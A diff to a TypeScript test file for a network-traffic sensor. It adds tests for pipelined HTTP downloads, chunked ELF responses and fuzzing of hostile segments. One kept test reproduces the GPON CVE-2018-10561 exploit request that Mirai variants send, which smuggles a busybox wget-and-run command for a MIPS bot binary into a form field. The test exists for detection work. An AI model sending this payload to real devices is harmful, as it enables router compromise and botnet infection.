@@ -1,6 +1,7 @@
 // The pipeline with its protocol rooms: frames built with test/gen/packets.ts (synthetic, written here to
 // follow the published analyses cited per test) and real captures from ../shared/pcaps, compared with tshark.
 import { describe, expect, it } from 'vitest';
+import fc from 'fast-check';
 import { openCaptureFile } from '../../sensor/capture/file.js';
 import type { Frame } from '../../sensor/capture/frame.js';
 import type { WaakhondEvent } from '../../sensor/events.js';
@@ -132,6 +133,21 @@ describe('rooms: HTTP on every request of a keep-alive connection', () => {
       expect(pipeline.rooms.held()).toMatchObject({ http: 0 });
     });
   }
+  it('pipelined downloads cut at arbitrary segment sizes: the next head is found inside the segment that ends a body', () => {
+    for (const mss of [100, 536, 999, 1448, 4000]) {
+      const c = new Conn(40004, 80).c(concat(get(files[0][0]), get(files[1][0]), get(files[4][0])));
+      c.sSegments(concat(ok(files[0][1]), ok(files[1][1]), ok(files[4][1])), mss);
+      const { all } = run(c.frames);
+      expect(ofType(all, 'http_response')).toHaveLength(3);
+      expect(ofType(all, 'file_transfer').map((e) => [e.uri, e.elf_arch])).toEqual([0, 1, 4].map((i) => [files[i][0], files[i][2]]));
+    }
+  });
+  it('a chunked response: the chunk size line is not the file', () => {
+    const elfBody = elfFile(32, 'big', 8, 300);
+    const c = new Conn(40005, 80).c(get('/bins/x.mips')).s(concat(
+      text(`HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n${elfBody.length.toString(16)}\r\n`), elfBody, text('\r\n0\r\n\r\n')));
+    expect(ofType(run(c.frames).all, 'file_transfer')).toEqual([expect.objectContaining({ file_type: 'elf', elf_arch: 'mips', uri: '/bins/x.mips' })]);
+  });
   it('a request body in the same segment is the event\'s body (GPON-style POST exploit)', () => {
     // The GPON CVE-2018-10561 request Mirai variants send (Check Point / 360 Netlab analyses, May 2018).
     const body = 'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.7/bins/mirai.mips+-O+/tmp/gaf;sh+/tmp/gaf`&ipv=0';
@@ -248,6 +264,30 @@ describe('rooms: TFTP follows the exchange to the server\'s new port', () => {
     const { all, pipeline } = run(frames);
     expect(ofType(all, 'file_transfer').map((e) => e.src_port)).toEqual([20000 + TFTP_EXCHANGES + 49]);
     expect(pipeline.rooms.held().tftp).toBe(TFTP_EXCHANGES - 1);
+  });
+});
+
+describe('rooms: hostile segments', () => {
+  it('random payloads on the rooms\' ports and others never raise an internal error, and state stays bounded', () => {
+    const ports = [21, 23, 53, 80, 443, 666, 8080, 5353, 33333];
+    fc.assert(fc.property(
+      fc.array(fc.tuple(fc.constantFrom(...ports), fc.boolean(), fc.uint8Array({ minLength: 1, maxLength: 600 }), fc.constantFrom('', 'GET / HTTP/1.1\r\n', 'HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\n', '\x7fELF', 'd1:ad2:id20:', 'USER x\r\n')), { maxLength: 40 }),
+      (segs) => {
+        const conns = new Map<number, Conn>();
+        const frames: Uint8Array[] = [];
+        for (const [port, fromClient, bytes, prefix] of segs) {
+          let c = conns.get(port);
+          if (!c) { c = new Conn(30000 + port, port); conns.set(port, c); }
+          const payload = concat(text(prefix), bytes);
+          if (fromClient) c.c(payload); else c.s(payload);
+          frames.push(udpFrame(BOT_MAC, GW_MAC, BOT, SRV, 30000 + port, port, payload));
+        }
+        for (const c of conns.values()) frames.push(...c.frames);
+        const { all, pipeline } = run(frames);
+        expect(pipeline.stats.internal_errors).toBe(0);
+        for (const n of Object.values(pipeline.rooms.held())) expect(n).toBe(0); // all ended with the capture
+        for (const e of all) if (e.type === 'tcp_text') expect(e.text.length).toBeLessThanOrEqual(512);
+      }), { numRuns: 150 });
   });
 });
 
